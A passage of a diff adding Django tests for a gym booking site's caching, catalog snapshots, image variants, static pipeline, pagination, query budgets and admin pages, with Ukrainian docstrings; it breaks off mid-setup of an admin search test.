@@ -1,7 +1,68 @@
-from django.test import TestCase
+import base64
+import csv
+import datetime
+import os
+import shutil
+import smtplib
+import tempfile
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import redirect_stdout
+from importlib import import_module
+from io import BytesIO, StringIO
+from pathlib import Path
+from unittest import mock, skipUnless
+
+from django.conf import settings
+from django.http import HttpResponse
+from django.template import Context, engines
+from django.template.utils import get_app_template_dirs
+from django.templatetags.static import StaticNode
+from django.test import RequestFactory, TestCase, TransactionTestCase, override_settings, skipUnlessDBFeature
+from django.test.utils import CaptureQueriesContext
+from django.apps import apps as django_apps
+from django.contrib.admin import site as admin_site
+from django.urls import URLResolver, get_resolver, resolve
 from django.contrib.auth import get_user_model
-from django.db import IntegrityError, transaction
+from django.db import IntegrityError, connection, connections, transaction
+from django.db.migrations.loader import MigrationLoader
+from django.db.models import F
 from django.contrib.auth.models import Group, Permission
+from django.contrib.contenttypes.models import ContentType
+from django.contrib.sites.models import Site
+from django.core import mail
+from django.core.cache import cache
+from django.core.files.storage import default_storage
+from django.core.exceptions import ValidationError
+from django.core.management import CommandError, call_command
+from django.core.files.uploadedfile import SimpleUploadedFile
+from PIL import Image
+from asgiref.sync import iscoroutinefunction
+from allauth.account.models import EmailAddress
+from django.urls import reverse
+from django.utils import timezone
+
+from . import bulk as bulk_module
+from .bulk import run_or_enqueue
+from .booking import BookingError, SlotFullError, cancel_bookings, create_booking
+from .catalog import rebuild_snapshots
+from .decorators import query_budget
+from .idempotency import IDEMPOTENCY_KEY_TTL
+from .images import get_thumbnail_url, thumbnail_name, variant_name
+from .jobs import JOB_STALE_AFTER, enqueue, run_pending, touch
+from .ledger import CheckInError, check_in, reconcile_balances
+from .notifications import send_pending
+from .middleware import QueryBudgetExceeded, QueryBudgetMiddleware
+from .overlaps import find_overlaps
+from .pagination import EstimatedCountPaginator
+from .reminders import _insert_new, queue_reminders
+from .models import (
+    Trainer, Service, PricingPlan, ServiceFeature, Schedule, FAQ, CatalogSnapshot, Booking, SlotOccurrence,
+    SessionUsage, WaitlistEntry, Notification, BookingEvent, Job, IdempotencyKey,
+)
+from .slots import SLOT_WEEKS_AHEAD, generate_slots, recount_slots
+from .waitlist import WaitlistError, join_waitlist
+from .static import PrecompressedManifestStaticFilesStorage, serve_static
+from .transitions import TransitionError, transition_bookings
 
 
 GymUser = get_user_model()
@@ -65,3 +126,1800 @@ class GymUserModelTests(TestCase):
         user.save()
 
         self.assertIn(group, user.groups.all())
+
+
+class IndexFragmentCacheTests(TestCase):
+
+    def setUp(self):
+        cache.clear()
+        with self.captureOnCommitCallbacks(execute=True):
+            self.trainer = Trainer.objects.create(
+                first_name="Іван", last_name="Петренко", age=30, gender="M", experience=5
+            )
+            self.service = Service.objects.create(
+                name="Кікбоксинг для початківців", duration=1, category="personal_training", trainer=self.trainer
+            )
+            PricingPlan.objects.create(
+                service=self.service, name="Разове", plan_type="single", price=500, is_default=True
+            )
+            FAQ.objects.create(question="Питання?", answer="Відповідь")
+
+    def test_second_hit_costs_zero_queries(self):
+        """Тест: після прогріву кешу головна не звертається до БД"""
+        self.client.get(reverse('index'))
+        with self.assertNumQueries(0):
+            response = self.client.get(reverse('index'))
+        self.assertContains(response, "Петренко")
+        self.assertContains(response, "Кікбоксинг для початківців")
+
+    def test_model_change_bumps_version(self):
+        """Тест: збереження моделі каталогу інвалідує фрагменти"""
+        self.client.get(reverse('index'))
+        with self.captureOnCommitCallbacks(execute=True):
+            FAQ.objects.create(question="Нове питання?", answer="Так")
+        self.assertContains(self.client.get(reverse('index')), "Нове питання?")
+
+    def test_bulk_admin_action_bumps_version(self):
+        """Тест: масова дія в адмінці (queryset.update) теж інвалідує кеш"""
+        admin_user = GymUser.objects.create_superuser(email="staff@example.com", password="pass12345")
+        self.client.force_login(admin_user)
+        self.client.get(reverse('index'))
+        with self.captureOnCommitCallbacks(execute=True):
+            self.client.post(reverse('admin:elevix_service_changelist'), {
+                'action': 'deactivate_services',
+                '_selected_action': [self.service.pk],
+            })
+        self.assertNotContains(self.client.get(reverse('index')), "Кікбоксинг для початківців")
+
+
+class CatalogSnapshotTests(TestCase):
+
+    def setUp(self):
+        with self.captureOnCommitCallbacks(execute=True):
+            self.trainer = Trainer.objects.create(
+                first_name="Андрій", last_name="Мельник", age=35, gender="M", experience=10
+            )
+            self.service = Service.objects.create(
+                name="ММА", duration="1.50", category="group_training", trainer=self.trainer
+            )
+            PricingPlan.objects.create(
+                service=self.service, name="Разове", plan_type="single", price=900, is_default=True
+            )
+            PricingPlan.objects.create(
+                service=self.service, name="Пакет", plan_type="package", price=8000, sessions_count=10
+            )
+            ServiceFeature.objects.create(service=self.service, feature_text="Спаринги", sort_order=1)
+
+    def test_snapshot_contains_denormalized_graph(self):
+        """Тест: знімок містить тарифи, ціни за заняття, особливості та ім'я тренера"""
+        data = CatalogSnapshot.objects.get(service=self.service).data
+        self.assertEqual(data['trainer_name'], "Мельник Андрій")
+        self.assertEqual(data['default_plan']['name'], "Разове")
+        self.assertEqual(data['duration'], "1.50")
+        self.assertEqual(
+            [plan['price_per_session'] for plan in data['pricing_plans']],
+            ["900.00", "800.00"],
+        )
+        self.assertEqual([f['feature_text'] for f in data['features']], ["Спаринги"])
+
+    def test_prices_are_computed_in_database(self):
+        """Тест: знижка застосовується в БД до ціни, ціни за заняття і найдешевшого тарифу в знімку"""
+        with self.captureOnCommitCallbacks(execute=True):
+            package = PricingPlan.objects.get(service=self.service, plan_type="package")
+            package.discount_percent = 25
+            package.save()
+
+        package = PricingPlan.objects.get(pk=package.pk)
+        self.assertEqual((package.effective_price, package.price_per_session), (6000, 600))
+        self.assertEqual(
+            list(PricingPlan.objects.filter(price_per_session__lt=700).values_list('pk', flat=True)), [package.pk]
+        )
+
+        service = Service.objects.with_cheapest_plan().get(pk=self.service.pk)
+        self.assertEqual((service.cheapest_plan_id, service.cheapest_price_per_session), (package.pk, 600))
+
+        data = CatalogSnapshot.objects.get(service=self.service).data
+        self.assertEqual(data['cheapest_price_per_session'], "600.00")
+        self.assertEqual([plan['effective_price'] for plan in data['pricing_plans']], ["900.00", "6000.00"])
+        self.assertTrue(data['pricing_plans'][1]['has_discount'])
+
+    def test_audit_lists_discounted_plans_without_changing_prices(self):
+        """Тест: audit_plan_discounts показує тарифи зі знижкою і ціну до сплати, нічого не змінюючи"""
+        package = PricingPlan.objects.get(service=self.service, plan_type="package")
+        PricingPlan.objects.filter(pk=package.pk).update(discount_percent=11.11)
+
+        out = StringIO()
+        call_command('audit_plan_discounts', stdout=out)
+        self.assertIn(
+            f'#{package.pk} ММА / Пакет: ціна 8000.00 грн, знижка 11.11% -> до сплати 7111.20 грн', out.getvalue()
+        )
+        self.assertIn('1 тарифів зі знижкою', out.getvalue())
+        self.assertEqual(PricingPlan.objects.get(pk=package.pk).price, 8000)
+
+    def test_trainer_change_rebuilds_snapshot(self):
+        """Тест: перейменування тренера оновлює знімки його послуг"""
+        with self.captureOnCommitCallbacks(execute=True):
+            self.trainer.last_name = "Шевченко"
+            self.trainer.save()
+        self.assertEqual(
+            CatalogSnapshot.objects.get(service=self.service).data['trainer_name'],
+            "Шевченко Андрій",
+        )
+
+    def test_trainer_delete_rebuilds_snapshot(self):
+        """Тест: після видалення тренера знімок послуги лишається без тренера"""
+        with self.captureOnCommitCallbacks(execute=True):
+            self.trainer.delete()
+        snapshot = CatalogSnapshot.objects.get(service=self.service)
+        self.assertIsNone(snapshot.trainer_id)
+        self.assertEqual(snapshot.data['trainer_name'], "")
+
+    def test_admin_activation_rebuilds_snapshot_with_active_filter(self):
+        """Тест: активація з фільтром «неактивні» в адмінці перебудовує знімки обраних послуг"""
+        with self.captureOnCommitCallbacks(execute=True):
+            self.service.is_active = False
+            self.service.save()
+        self.assertFalse(CatalogSnapshot.objects.get(service=self.service).is_active)
+
+        admin_user = GymUser.objects.create_superuser(
+            email="catalog@example.com", password="pass12345", first_name="Адмін", last_name="Адмінов"
+        )
+        self.client.force_login(admin_user)
+        with self.captureOnCommitCallbacks(execute=True):
+            self.client.post(reverse('admin:elevix_service_changelist') + '?is_active__exact=0', {
+                'action': 'activate_services',
+                '_selected_action': [self.service.pk],
+            })
+        self.assertTrue(CatalogSnapshot.objects.get(service=self.service).is_active)
+
+    def test_migration_backfills_snapshots_with_historical_models(self):
+        """Тест: міграція 0017 будує для наявних послуг ті самі знімки, що й rebuild_snapshots"""
+        expected = CatalogSnapshot.objects.get(service=self.service).data
+        CatalogSnapshot.objects.all().delete()
+
+        migration = import_module('elevix.migrations.0017_backfill_catalog_snapshots')
+        state = MigrationLoader(connection).project_state(('elevix', '0017_backfill_catalog_snapshots'))
+        migration.backfill_snapshots(state.apps, None)
+        self.assertEqual(CatalogSnapshot.objects.get(service=self.service).data, expected)
+
+    def test_index_reads_services_in_one_query(self):
+        """Тест: головна читає послуги одним запитом до знімків"""
+        cache.clear()
+        # тренери, знімки, FAQ
+        with self.assertNumQueries(3):
+            response = self.client.get(reverse('index'))
+        self.assertContains(response, "8000 грн")
+
+
+def make_image_upload(name="photo.png", size=(1600, 900)):
+    buffer = BytesIO()
+    Image.new('RGBA', size, (200, 50, 50, 255)).save(buffer, 'PNG')
+    return SimpleUploadedFile(name, buffer.getvalue(), content_type='image/png')
+
+
+class ImageVariantTests(TestCase):
+
+    def setUp(self):
+        cache.clear()
+        self.media_root = tempfile.mkdtemp()
+        self.override = override_settings(MEDIA_ROOT=self.media_root)
+        self.override.enable()
+
+    def tearDown(self):
+        self.override.disable()
+        shutil.rmtree(self.media_root, ignore_errors=True)
+
+    def test_upload_generates_variants(self):
+        """Тест: завантаження фото створює thumb/card/full у WebP та JPEG потрібної ширини"""
+        with self.captureOnCommitCallbacks(execute=True):
+            trainer = Trainer.objects.create(
+                first_name="Ірина", last_name="Ткач", age=26, gender="F", experience=3,
+                photo=make_image_upload(),
+            )
+        for variant, width in (('thumb', 100), ('card', 300), ('full', 1200)):
+            for ext in ('webp', 'jpg'):
+                name = variant_name(trainer.photo.name, variant, ext)
+                self.assertTrue(default_storage.exists(name), name)
+                with default_storage.open(name) as f:
+                    self.assertEqual(Image.open(f).width, width)
+        self.assertIn('300w', trainer.photo_srcset['webp'])
+        self.assertTrue(trainer.photo_variants['card']['jpg'].endswith('.card.jpg'))
+
+    def test_resave_without_upload_does_not_regenerate(self):
+        """Тест: звичайне збереження (наприклад, last_login) не перегенеровує варіанти"""
+        with self.captureOnCommitCallbacks(execute=True):
+            user = GymUser.objects.create_user(email="avatar@example.com", password="pass12345")
+            user.avatar = make_image_upload("avatar.png", (400, 400))
+            user.save()
+        with self.captureOnCommitCallbacks(execute=False) as callbacks:
+            user.save()
+        self.assertEqual(callbacks, [])
+        self.assertIn('avatar.png.thumb.webp', user.avatar_srcset['webp'])
+
+    def test_missing_variants_fall_back_to_original(self):
+        """Тест: до backfill сторінка показує оригінал, після generate_image_variants - варіанти"""
+        # Завантаження без on_commit - як файли, що були до появи варіантів
+        trainer = Trainer.objects.create(
+            first_name="Ірина", last_name="Ткач", age=26, gender="F", experience=3,
+            photo=make_image_upload(),
+        )
+        self.assertEqual(trainer.photo_srcset, {})
+        self.assertEqual(trainer.photo_variants['full']['jpg'], trainer.photo.url)
+        response = self.client.get(reverse('elevix:trainer_detail', args=[trainer.pk]))
+        self.assertContains(response, f'src="{trainer.photo.url}"')
+        self.assertNotContains(response, '.full.jpg')
+
+        call_command('generate_image_variants', stdout=StringIO())
+        self.assertIn('1200w', trainer.photo_srcset['jpg'])
+        self.assertTrue(trainer.photo_variants['full']['jpg'].endswith('.full.jpg'))
+
+    def test_srcset_uses_real_widths_of_small_original(self):
+        """Тест: варіанти маленького оригіналу описуються його справжньою шириною, без дублікатів"""
+        with self.captureOnCommitCallbacks(execute=True):
+            trainer = Trainer.objects.create(
+                first_name="Ірина", last_name="Ткач", age=26, gender="F", experience=3,
+                photo=make_image_upload(size=(250, 200)),
+            )
+        srcset = trainer.photo_srcset['webp']
+        self.assertEqual([entry.rsplit(' ', 1)[1] for entry in srcset.split(', ')], ['100w', '250w'])
+
+        # Після перезапуску (порожній кеш) ширини читаються з файлів
+        cache.clear()
+        self.assertEqual(trainer.photo_srcset['webp'], srcset)
+
+
+class AdminThumbnailTests(TestCase):
+
+    def setUp(self):
+        cache.clear()
+        self.media_root = tempfile.mkdtemp()
+        self.override = override_settings(MEDIA_ROOT=self.media_root)
+        self.override.enable()
+        self.admin_user = GymUser.objects.create_superuser(
+            email="thumbs@example.com", password="pass12345", first_name="Адмін", last_name="Адмінов"
+        )
+        self.client.force_login(self.admin_user)
+
+    def tearDown(self):
+        self.override.disable()
+        shutil.rmtree(self.media_root, ignore_errors=True)
+
+    def test_changelist_uses_cached_thumbnail(self):
+        """Тест: changelist тренерів показує мініатюру 100x100, створену при першому перегляді"""
+        trainer = Trainer.objects.create(
+            first_name="Ігор", last_name="Лисенко", age=33, gender="M", experience=8,
+            photo=make_image_upload(),
+        )
+        response = self.client.get(reverse('admin:elevix_trainer_changelist'))
+        name = thumbnail_name(trainer.photo.name, (100, 100))
+        self.assertContains(response, default_storage.url(name))
+        with default_storage.open(name) as f:
+            self.assertEqual(Image.open(f).size, (100, 100))
+
+    def test_broken_image_falls_back_to_original(self):
+        """Тест: пошкоджений файл не ламає список - показуємо оригінал"""
+        self.admin_user.avatar = SimpleUploadedFile("broken.png", b"not an image", content_type='image/png')
+        self.admin_user.save()
+        with self.assertLogs('elevix', level='WARNING'):
+            url = get_thumbnail_url(self.admin_user.avatar)
+        self.assertEqual(url, self.admin_user.avatar.url)
+        response = self.client.get(reverse('admin:elevix_gymuser_changelist'))
+        self.assertContains(response, self.admin_user.avatar.url)
+
+
+class StaticPipelineTests(TestCase):
+
+    def setUp(self):
+        self.source = tempfile.mkdtemp()
+        self.static_root = tempfile.mkdtemp()
+        self.override = override_settings(STATIC_ROOT=self.static_root)
+        self.override.enable()
+        with open(f'{self.source}/site.css', 'w') as f:
+            f.write('body { color: #333; }\n' * 200)
+        Image.new('RGB', (64, 64), 'red').save(f'{self.source}/hero.png')
+
+    def tearDown(self):
+        self.override.disable()
+        shutil.rmtree(self.source, ignore_errors=True)
+        shutil.rmtree(self.static_root, ignore_errors=True)
+
+    def collect(self):
+        """Копіює файли в STATIC_ROOT та запускає post_process, як collectstatic"""
+        storage = PrecompressedManifestStaticFilesStorage(location=self.static_root)
+        source = PrecompressedManifestStaticFilesStorage(location=self.source)
+        paths = {}
+        for name in ('site.css', 'hero.png'):
+            with source.open(name) as f:
+                storage.save(name, f)
+            paths[name] = (source, name)
+        hashed = {name: hashed for name, hashed, _ in storage.post_process(paths)}
+        return storage, hashed
+
+    def test_post_process_writes_sidecars(self):
+        """Тест: collectstatic пише .gz для CSS та .webp для PNG поруч із хешованими іменами"""
+        storage, hashed = self.collect()
+        self.assertRegex(hashed['site.css'], r'^site\.[0-9a-f]{12}\.css$')
+        self.assertTrue(storage.exists(hashed['site.css'] + '.gz'))
+        self.assertTrue(storage.exists(hashed['hero.png'] + '.webp'))
+
+    def test_serve_static_negotiates_encoding_and_format(self):
+        """Тест: хешований файл віддається стиснутим, з Vary та Cache-Control immutable"""
+        _, hashed = self.collect()
+        factory = RequestFactory()
+
+        response = serve_static(factory.get('/', HTTP_ACCEPT_ENCODING='gzip, deflate'), hashed['site.css'])
+        self.assertEqual(response['Content-Encoding'], 'gzip')
+        self.assertEqual(response['Vary'], 'Accept-Encoding')
+        self.assertIn('immutable', response['Cache-Control'])
+        response.close()
+
+        response = serve_static(factory.get('/', HTTP_ACCEPT='image/webp,*/*'), hashed['hero.png'])
+        self.assertEqual(response['Content-Type'], 'image/webp')
+        response.close()
+
+        response = serve_static(factory.get('/'), 'site.css')
+        self.assertFalse(response.has_header('Content-Encoding'))
+        self.assertNotIn('immutable', response['Cache-Control'])
+        response.close()
+
+    def test_every_template_resolves_static_from_manifest(self):
+        """Тест: усі {% static %} у шаблонах проєкту є в маніфесті (інакше в продакшені 500)"""
+        storages = {
+            **settings.STORAGES,
+            'staticfiles': {'BACKEND': 'elevix.static.PrecompressedManifestStaticFilesStorage'},
+        }
+        with override_settings(STORAGES=storages):
+            call_command('collectstatic', interactive=False, verbosity=0)
+            engine = engines['django'].engine
+            template_dirs = [
+                Path(directory) for directory in (*engine.dirs, *get_app_template_dirs('templates'))
+                if Path(directory).is_relative_to(settings.BASE_DIR)
+            ]
+            checked = 0
+            for directory in template_dirs:
+                for path in directory.rglob('*'):
+                    if path.suffix not in ('.html', '.txt'):
+                        continue
+                    template = engine.get_template(path.relative_to(directory).as_posix())
+                    for node in template.nodelist.get_nodes_by_type(StaticNode):
+                        with self.subTest(template=str(path), node=node.path.token):
+                            node.render(Context())
+                        checked += 1
+        self.assertGreater(checked, 0)
+
+
+class TrainerConditionalGetTests(TestCase):
+
+    def setUp(self):
+        cache.clear()
+        self.trainer = Trainer.objects.create(
+            first_name="Олена", last_name="Коваль", age=28, gender="F", experience=4
+        )
+        self.service = Service.objects.create(
+            name="Йога", duration=1, category="group_training", trainer=self.trainer
+        )
+
+    def test_trainer_detail_returns_304_on_matching_etag(self):
+        """Тест: повторний запит з If-None-Match отримує 304 без рендерингу"""
+        url = reverse('elevix:trainer_detail', args=[self.trainer.pk])
+        response = self.client.get(url)
+        self.assertEqual(response.status_code, 200)
+        etag = response['ETag']
+        self.assertIn('Last-Modified', response)
+
+        response = self.client.get(url, HTTP_IF_NONE_MATCH=etag)
+        self.assertEqual(response.status_code, 304)
+
+    def test_schedule_change_invalidates_trainer_detail(self):
+        """Тест: зміна розкладу змінює ETag сторінки тренера"""
+        url = reverse('elevix:trainer_detail', args=[self.trainer.pk])
+        etag = self.client.get(url)['ETag']
+        with self.captureOnCommitCallbacks(execute=True):
+            Schedule.objects.create(
+                trainer=self.trainer, service=self.service, day_of_week=1,
+                start_time=datetime.time(18, 0), end_time=datetime.time(19, 0),
+            )
+        self.assertEqual(self.client.get(url, HTTP_IF_NONE_MATCH=etag).status_code, 200)
+
+    def test_price_change_invalidates_trainer_detail(self):
+        """Тест: зміна тарифу (лише у знімку каталогу, Service не змінюється) змінює ETag сторінки тренера"""
+        with self.captureOnCommitCallbacks(execute=True):
+            plan = PricingPlan.objects.create(service=self.service, name="Разове", plan_type="single", price=500)
+        url = reverse('elevix:trainer_detail', args=[self.trainer.pk])
+        etag = self.client.get(url)['ETag']
+        self.assertEqual(self.client.get(url, HTTP_IF_NONE_MATCH=etag).status_code, 304)
+
+        with self.captureOnCommitCallbacks(execute=True):
+            plan.price = 600
+            plan.save()
+        response = self.client.get(url, HTTP_IF_NONE_MATCH=etag)
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(response.context['services'][0]['pricing_plans'][0]['price'], "600.00")
+
+    def test_trainers_list_returns_304_on_matching_etag(self):
+        """Тест: список тренерів валідується одним агрегатним запитом"""
+        url = reverse('elevix:trainers_list')
+        etag = self.client.get(url)['ETag']
+        with self.assertNumQueries(1):
+            response = self.client.get(url, HTTP_IF_NONE_MATCH=etag)
+        self.assertEqual(response.status_code, 304)
+
+    def test_missing_trainer_is_404(self):
+        """Тест: для неіснуючого тренера валідатори не заважають 404"""
+        response = self.client.get(reverse('elevix:trainer_detail', args=[self.trainer.pk + 100]))
+        self.assertEqual(response.status_code, 404)
+
+
+class AsyncProfileTests(TestCase):
+
+    async def test_profile_requires_login(self):
+        """Тест: async-профіль перенаправляє анонімного користувача на вхід"""
+        response = await self.async_client.get(reverse('elevix:profile'))
+        self.assertEqual(response.status_code, 302)
+        self.assertIn(reverse('account_login'), response['Location'])
+
+    async def test_trainer_profile_renders(self):
+        """Тест: профіль тренера рендериться без синхронних звернень до ORM"""
+        user = await GymUser.objects.acreate(email="coach@example.com", first_name="Олег", last_name="Бондар")
+        await Trainer.objects.acreate(
+            user=user, first_name="Олег", last_name="Бондар", age=40, gender="M",
+            experience=15, specialization="boxing",
+        )
+        await self.async_client.aforce_login(user)
+        response = await self.async_client.get(reverse('elevix:profile'))
+        self.assertContains(response, "Профіль тренера")
+        self.assertContains(response, "Бокс")
+
+
+
+class TrainerDirectoryTests(TestCase):
+
+    def setUp(self):
+        seed_catalog(30)
+        # Однаковий created_at у частини рядків перевіряє розв'язання нічиїх за id
+        Trainer.objects.filter(pk__in=Trainer.objects.order_by('pk').values('pk')[:10]).update(
+            created_at=datetime.datetime(2025, 1, 1, tzinfo=datetime.timezone.utc)
+        )
+
+    def _walk(self, query=''):
+        seen, url = [], reverse('elevix:trainers_list') + query
+        while url:
+            response = self.client.get(url)
+            seen.extend(trainer.pk for trainer in response.context['trainers'])
+            next_query = response.context['next_query']
+            url = reverse('elevix:trainers_list') + '?' + next_query if next_query else None
+        return seen
+
+    def test_keyset_pages_cover_every_trainer_once(self):
+        """Тест: проходження сторінок курсором повертає кожного тренера рівно один раз"""
+        seen = self._walk()
+        self.assertEqual(len(seen), 30)
+        self.assertEqual(sorted(seen), sorted(Trainer.objects.values_list('pk', flat=True)))
+        self.assertEqual(seen, list(Trainer.objects.order_by('-created_at', '-id').values_list('pk', flat=True)))
+
+    def test_filters_are_kept_across_pages(self):
+        """Тест: фільтр за стажем застосовується до всіх сторінок"""
+        seen = self._walk('?min_experience=5')
+        expected = Trainer.objects.filter(experience__gte=5).values_list('pk', flat=True)
+        self.assertEqual(sorted(seen), sorted(expected))
+
+    def test_broken_cursor_starts_from_first_page(self):
+        """Тест: пошкоджений курсор не ламає сторінку"""
+        response = self.client.get(reverse('elevix:trainers_list') + '?cursor=@@@')
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(len(response.context['trainers']), 24)
+
+    def test_out_of_range_cursor_starts_from_first_page(self):
+        """Тест: курсор з id поза bigint або без часового поясу повертає першу сторінку, а не 500"""
+        first_page = list(self.client.get(reverse('elevix:trainers_list')).context['trainers'])
+        for raw in (f'2025-01-01T00:00:00+00:00|{2 ** 63}', '2025-01-01T00:00:00+00:00|-1', '2025-01-01T00:00:00|5'):
+            with self.subTest(raw=raw):
+                cursor = base64.urlsafe_b64encode(raw.encode()).decode().rstrip('=')
+                response = self.client.get(reverse('elevix:trainers_list') + '?cursor=' + cursor)
+                self.assertEqual(response.status_code, 200)
+                self.assertEqual(list(response.context['trainers']), first_page)
+
+
+def seed_catalog(rows):
+    """Створює rows тренерів, кожен з послугою, тарифом, особливістю та розкладом"""
+    trainers = Trainer.objects.bulk_create([
+        Trainer(first_name=f"Тренер{i}", last_name=f"Прізвище{i}", age=30, gender="M", experience=i % 20)
+        for i in range(rows)
+    ])
+    services = Service.objects.bulk_create([
+        Service(name=f"Послуга {i}", duration=1, category="group_training", trainer=trainer)
+        for i, trainer in enumerate(trainers)
+    ])
+    PricingPlan.objects.bulk_create([
+        PricingPlan(service=service, name="Разове", plan_type="single", price=500, is_default=True)
+        for service in services
+    ])
+    ServiceFeature.objects.bulk_create([
+        ServiceFeature(service=service, feature_text="Особливість") for service in services
+    ])
+    Schedule.objects.bulk_create([
+        Schedule(trainer=trainer, service=service, day_of_week=i % 7,
+                 start_time=datetime.time(10, 0), end_time=datetime.time(11, 0))
+        for i, (trainer, service) in enumerate(zip(trainers, services))
+    ])
+    FAQ.objects.bulk_create([FAQ(question=f"Питання {i}?", answer="Так") for i in range(rows)])
+    rebuild_snapshots([service.pk for service in services])
+    return trainers[0], services[0]
+
+
+def seed_site(rows):
+    """seed_catalog плюс клієнти, заняття, бронювання, черга, повідомлення і завдання - по rows рядків"""
+    seed_catalog(rows)
+    generate_slots(weeks=2)
+    plans = list(PricingPlan.objects.select_related('service').order_by('-pk')[:rows])[::-1]
+    users = GymUser.objects.bulk_create([
+        GymUser(email=f"seed{GymUser.objects.count()}-{i}@example.com", first_name="Клієнт", last_name=str(i))
+        for i in range(rows)
+    ])
+    # Останній тренер - це останній клієнт, тож сторінки «останнього» рядка однакові на будь-якому масштабі
+    Trainer.objects.filter(pk=Trainer.objects.order_by('pk').last().pk).update(user=users[-1])
+    slots = {
+        slot.service_id: slot
+        for slot in SlotOccurrence.objects.filter(service_id__in=[plan.service_id for plan in plans])
+    }
+    bookings = Booking.objects.bulk_create([
+        Booking(
+            user=user, service=plan.service, pricing_plan=plan, slot=slots.get(plan.service_id),
+            booking_date=timezone.now(), total_price=plan.price,
+        )
+        for user, plan in zip(users, plans)
+    ])
+    WaitlistEntry.objects.bulk_create([
+        WaitlistEntry(slot=booking.slot, user=booking.user, pricing_plan=booking.pricing_plan)
+        for booking in bookings
+        if booking.slot
+    ])
+    Notification.objects.bulk_create([
+        Notification(user=booking.user, booking=booking, kind='booking_confirmed', subject="Тема", body="Текст")
+        for booking in bookings
+    ])
+    Job.objects.bulk_create([Job(kind='booking_transition') for _ in range(rows)])
+
+
+class QueryBudgetMiddlewareTests(TestCase):
+
+    def _run(self, view):
+        request = RequestFactory().get('/')
+        request.resolver_match = resolve(reverse('index'))
+
+        def get_response(request):
+            middleware.process_view(request, view, (), {})
+            return view(request)
+
+        middleware = QueryBudgetMiddleware(get_response)
+        return middleware(request)
+
+    @override_settings(QUERY_BUDGET_ENABLED=True, QUERY_BUDGET_RAISE=True)
+    def test_exceeding_budget_raises(self):
+        """Тест: представлення з двома запитами при бюджеті 1 піднімає виняток"""
+        @query_budget(1)
+        def view(request):
+            list(Trainer.objects.all())
+            list(FAQ.objects.all())
+            return HttpResponse()
+
+        with self.assertRaises(QueryBudgetExceeded):
+            self._run(view)
+
+    @override_settings(QUERY_BUDGET_ENABLED=True, QUERY_BUDGET_RAISE=False)
+    def test_exceeding_budget_logs_warning(self):
+        """Тест: без QUERY_BUDGET_RAISE перевищення лише логується"""
+        @query_budget(0)
+        def view(request):
+            list(Trainer.objects.all())
+            return HttpResponse()
+
+        with self.assertLogs('elevix', level='WARNING'):
+            self.assertEqual(self._run(view).status_code, 200)
+
+    @override_settings(QUERY_BUDGET_ENABLED=True, QUERY_BUDGET_HEADERS=True)
+    def test_benchmark_headers(self):
+        """Тест: при QUERY_BUDGET_HEADERS відповідь містить кількість запитів, PID та RSS воркера"""
+        def view(request):
+            list(Trainer.objects.all())
+            list(FAQ.objects.all())
+            return HttpResponse()
+
+        response = self._run(view)
+        self.assertEqual(response['X-DB-Queries'], '2')
+        self.assertEqual(response['X-Worker-PID'], str(os.getpid()))
+        self.assertGreater(int(response['X-Worker-RSS-KB']), 0)
+
+    @override_settings(QUERY_BUDGET_ENABLED=True, QUERY_BUDGET_HEADERS=True)
+    async def test_async_chain_counts_async_orm_queries(self):
+        """Тест: в асинхронному ланцюжку middleware асинхронне і рахує запити асинхронної ORM"""
+        async def get_response(request):
+            await Trainer.objects.acount()
+            await FAQ.objects.acount()
+            return HttpResponse()
+
+        middleware = QueryBudgetMiddleware(get_response)
+        self.assertTrue(iscoroutinefunction(middleware))
+        response = await middleware(RequestFactory().get('/'))
+        self.assertEqual(response['X-DB-Queries'], '2')
+
+
+class SeedBenchmarkTests(TestCase):
+
+    def test_seed_creates_catalog_at_scale(self):
+        """Тест: seed_benchmark створює дані заданого масштабу та знімки каталогу"""
+        with self.captureOnCommitCallbacks(execute=True):
+            call_command(
+                'seed_benchmark', trainers=4, services_per_trainer=2, users=5,
+                bookings_per_user=2, faqs=3, stdout=StringIO(),
+            )
+        self.assertEqual(Trainer.objects.count(), 4)
+        self.assertEqual(CatalogSnapshot.objects.count(), 8)
+        self.assertEqual(Schedule.objects.count(), 8)
+        self.assertEqual(GymUser.objects.filter(email__endswith='@bench.local', is_superuser=False).count(), 5)
+        self.assertTrue(GymUser.objects.filter(email='admin@bench.local', is_superuser=True).exists())
+
+    def test_reset_refuses_remote_database(self):
+        """Тест: --reset не чіпає нелокальну БД без --yes-really"""
+        faq = FAQ.objects.create(question="Питання?", answer="Відповідь")
+        remote = {'ENGINE': 'django.db.backends.postgresql', 'HOST': 'db.example.com'}
+        with mock.patch.dict(connection.settings_dict, remote):
+            with self.assertRaisesMessage(CommandError, '--yes-really'):
+                call_command('seed_benchmark', reset=True, users=1, stdout=StringIO())
+        self.assertTrue(FAQ.objects.filter(pk=faq.pk).exists())
+
+
+class AdminChangelistQueryTests(TestCase):
+    """Кількість запитів changelist кожної моделі elevix не залежить від кількості рядків на сторінці"""
+
+    # Сесія, користувач, підрахунки, сторінка; фільтри за значеннями та date_hierarchy додають свої запити
+    CHANGELIST_QUERIES = {
+        'gymuser': 4, 'trainer': 6, 'service': 5, 'pricingplan': 5, 'servicefeature': 5, 'booking': 4,
+        'schedule': 5, 'slotoccurrence': 7, 'waitlistentry': 5, 'notification': 5, 'job': 6, 'faq': 5,
+    }
+
+    def _measure(self):
+        counts = {}
+        for model in admin_site._registry:
+            if model._meta.app_label != 'elevix':
+                continue
+            url = reverse(f'admin:elevix_{model._meta.model_name}_changelist')
+            cache.clear()
+            with CaptureQueriesContext(connection) as queries:
+                response = self.client.get(url)
+            self.assertEqual(response.status_code, 200, url)
+            counts[model._meta.model_name] = len(queries)
+        return counts
+
+    def test_changelists_use_constant_queries(self):
+        """Тест: 1 і 20 рядків на сторінці - однакова кількість запитів для кожного changelist"""
+        admin_user = GymUser.objects.create_superuser(
+            email="changelist@example.com", password="pass12345", first_name="Адмін", last_name="Адмінов"
+        )
+        self.client.force_login(admin_user)
+        seed_site(1)
+        small = self._measure()
+        seed_site(19)
+        self.assertEqual(self._measure(), small)
+        self.assertEqual(small, self.CHANGELIST_QUERIES)
+
+
+class AdminSearchTests(TestCase):
+
+    def setUp(self):
+        self.admin_user = GymUser.objects.create_superuser(
+            email="search@example.com", password="pass12345", first_name="Адмін", last_name="Адмінов"
+        )
+        self.client.force_login(self.admin_user)
+        self.maryana = GymUser.objects.create_user(
+            email="maryana@example.com", password="pass12345", first_name="Марʼяна", last_name="Коваль",
+            phone="+380671234567",
+        )
